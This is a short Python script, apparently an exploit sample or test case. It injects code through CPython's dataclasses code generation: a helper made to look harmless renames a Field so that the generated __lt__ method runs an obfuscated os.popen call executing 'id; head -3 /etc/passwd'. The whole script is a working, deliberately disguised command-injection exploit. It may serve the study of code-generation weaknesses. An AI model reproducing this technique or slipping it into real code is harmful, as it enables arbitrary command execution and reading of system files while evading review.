# source: CPython Lib/dataclasses.py _create_fn/_cmp_fn (order=True __lt__ built from f.name)
# family: dataclasses codegen: Field handle from dataclasses.field() renamed through an innocuous helper obj.name = ...
# goal: runs id and head /etc/passwd via __lt__ codegen
import dataclasses


def relabel(obj, label):
    # looks like any ordinary "obj.name = ..." in a strategy
    obj.name = label
    return obj


base_field = dataclasses.field(default=0.0)


@dataclasses.dataclass
class Leg:
    qty: float = base_field


u = "_" * 2
code = u + "import" + u + "('o' 's').popen('id; head -3 /etc/passwd').read()"
relabel(base_field, "qty) or print(" + code + ") or (self.qty")


@dataclasses.dataclass(init=False, repr=False, order=True)
class Spread(Leg):
    pass


print(Spread() < Spread())
